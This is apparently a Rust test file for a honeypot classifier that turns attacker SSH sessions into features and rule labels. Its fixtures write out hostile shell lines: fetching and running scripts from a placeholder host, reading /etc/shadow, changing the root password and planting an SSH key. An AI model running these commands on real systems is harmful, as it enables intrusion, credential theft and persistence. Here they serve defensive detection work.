//! Features on known lines, and the counted rules against the labeller.

use super::*;
use crate::models::labels::label;

fn feature(v: &[f64; FEATURES], name: &str) -> f64 {
    let i = NAMES
        .iter()
        .position(|n| *n == name)
        .expect("a feature name");
    v[i]
}

fn session(lines: &[(Option<f64>, &str)]) -> SessionFeatures {
    let mut f = SessionFeatures::default();
    for (at, line) in lines {
        f.push(*at, line);
    }
    f
}

#[test]
fn names_are_unique_and_the_ranges_point_at_them() {
    let mut names = NAMES.to_vec();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), FEATURES);
    assert!(
        NAMES[RULE_FEATURES]
            .iter()
            .all(|n| n.starts_with("rule_") || n.starts_with("verdict_"))
    );
    assert!(
        NAMES[PHASE_FEATURES]
            .iter()
            .all(|n| n.starts_with("phase_"))
    );
    assert_eq!(
        NAMES[PROTOCOL_FEATURES],
        ["client_family", "auth_method", "user_class"]
    );
}

#[test]
fn timing_features_come_from_the_gaps_between_lines() {
    let f = session(&[
        (Some(0.0), "ls"),
        (Some(2.0), "cd /tmp"),
        (Some(3.0), "pwd"),
        (Some(9.0), "uname -a"),
    ]);
    let v = f.vector(None);
    // Gaps 2, 1, 6: median 2, longest 6, mean 3, stdev sqrt(14/3).
    assert_eq!(feature(&v, "lines"), 4.0);
    assert_eq!(feature(&v, "elapsed_s"), 9.0);
    assert_eq!(feature(&v, "gap_median_s"), 2.0);
    assert_eq!(feature(&v, "gap_max_s"), 6.0);
    assert!((feature(&v, "gap_cv") - (14.0f64 / 3.0).sqrt() / 3.0).abs() < 1e-9);
    // 7 + 3 + 8 bytes typed over 9 s of gaps.
    assert!((feature(&v, "typing_bytes_per_s") - 18.0 / 9.0).abs() < 1e-9);
    assert_eq!(feature(&v, "navigation"), 3.0);
    // One line without a time makes the timing unknown, as for CyberLab sessions.
    let g = session(&[(Some(0.0), "ls"), (None, "pwd")]);
    let v = g.vector(None);
    assert_eq!(feature(&v, "timed"), 0.0);
    assert_eq!(feature(&v, "gap_median_s"), -1.0);
}

#[test]
fn content_features_count_categories_on_known_lines() {
    let f = session(&[
        (
            None,
            "cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
        ),
        (None, "echo \"curl -O http://198.51.100.9/c.sh\" | sh"),
        (None, "cat /etc/shadow; crontab -l; rm -rf bins.sh"),
        (None, "wget http://198.51.100.9/other.sh"),
    ]);
    let v = f.vector(Some([0.5, 0.0, 0.5, 0.0, 0.0, 0.0]));
    // 4 + 1 + 3 + 1, and the echoed script's command.
    assert_eq!(feature(&v, "commands"), 10.0);
    assert_eq!(
        feature(&v, "download"),
        3.0,
        "two wgets and the echoed curl"
    );
    assert_eq!(feature(&v, "execute"), 2.0, "chmod and sh bins.sh");
    assert_eq!(feature(&v, "echo_pipe_sh"), 1.0);
    assert_eq!(feature(&v, "sensitive_read"), 1.0);
    assert_eq!(
        feature(&v, "retyped_programs"),
        3.0,
        "cd /var/run, the second wget, and the bare sh of the pipe"
    );
    assert_eq!(feature(&v, "persistence"), 0.0, "crontab -l only reads");
    assert_eq!(feature(&v, "rule_r5_dropper"), 1.0);
    assert_eq!(feature(&v, "rule_r6_password"), 1.0, "/etc/shadow");
    assert_eq!(feature(&v, "phase_recon"), 0.5);
    assert_eq!(feature(&v, "phase_download_execute"), 0.5);
    assert_eq!(f.rule_class(), Class::MalwareDropper);
    assert_eq!(feature(&v, "verdict_r5"), 1.0);
    assert_eq!(
        v[RULE_FEATURES.start + 7..RULE_FEATURES.end]
            .iter()
            .sum::<f64>(),
        1.0
    );
}

#[test]
fn protocol_features_are_coded_and_zero_when_unknown() {
    let f = SessionFeatures::new(Protocol {
        client_version: Some("SSH-2.0-libssh2_1.4.3".into()),
        auth: Some("none".into()),
        username: Some("admin".into()),
    });
    let v = f.vector(None);
    assert_eq!(&v[PROTOCOL_FEATURES], &[2.0, 2.0, 2.0]);
    assert_eq!(
        &SessionFeatures::default().vector(None)[PROTOCOL_FEATURES],
        &[0.0; 3]
    );
    let go = Protocol {
        client_version: Some("SSH-2.0-Go".into()),
        ..Protocol::default()
    };
    assert_eq!(go.client_family(), 5.0);
}

#[test]
fn the_counted_rules_agree_with_the_labeller() {
    let sessions: Vec<Vec<(Option<f64>, &str)>> = vec![
        vec![
            (None, "enable"),
            (None, "system"),
            (None, "shell"),
            (None, "sh"),
        ],
        vec![(None, "cd /tmp; echo -e '\\x41' > .nippon; cat .nippon")],
        vec![(None, "/bin/busybox ECCHI")],
        vec![
            (None, "echo root:x|chpasswd"),
            (None, "echo ssh-rsa AAA >> .ssh/authorized_keys"),
        ],
        vec![(None, "cat ~/.ssh/authorized_keys")],
        vec![(None, "pkill -9 kinsing")],
        vec![
            (Some(3.0), "ls"),
            (Some(9.5), "cd /home"),
            (Some(11.0), "ls -la"),
            (Some(25.0), "cat notes.txt"),
            (Some(27.5), "wget http://198.51.100.9/tool"),
        ],
        vec![
            (Some(1.0), "ls"),
            (Some(5.0), "cd /"),
            (Some(6.0), "ls"),
            (Some(20.0), "python -V"),
        ],
        vec![(
            None,
            "echo \"cd /tmp ; curl -O http://198.51.100.9/c.sh\" | sh",
        )],
        vec![(None, "cat > /tmp/.xs/daemon.i686.mod")],
        vec![(None, "perl /tmp/bot.pl"), (None, "perl -e 'print 1'")],
        vec![
            (None, "cat /proc/cpuinfo | grep name | wc -l"),
            (None, "echo -e \"a\\nb\\nb\" | passwd | bash"),
        ],
        vec![(None, "passwd admin")],
        vec![(None, "passwd")],
        vec![(None, "uname -a; free -m | grep Mem"), (None, "X=1")],
        vec![(None, "uname"), (None, "gcc x.c")],
        vec![],
    ];
    for lines in &sessions {
        let expected = label(lines).class;
        assert_eq!(session(lines).rule_class(), expected, "{lines:?}");
    }
}

#[test]
fn attacker_input_never_panics_and_gaps_stay_bounded() {
    let long = "a|".repeat(5_000);
    let mut f = SessionFeatures::default();
    for (i, line) in ["\\", "'\"", "$(((", ")))", "busybox ÉÉÉ", long.as_str()]
        .iter()
        .cycle()
        .take(MAX_GAPS + 50)
        .enumerate()
    {
        f.push(Some(i as f64), line);
    }
    f.push(Some(f64::NAN), "x");
    f.push(Some(-5.0), "y");
    assert_eq!(f.gaps.len(), MAX_GAPS);
    let v = f.vector(None);
    assert!(v.iter().all(|x| x.is_finite()), "{v:?}");
}
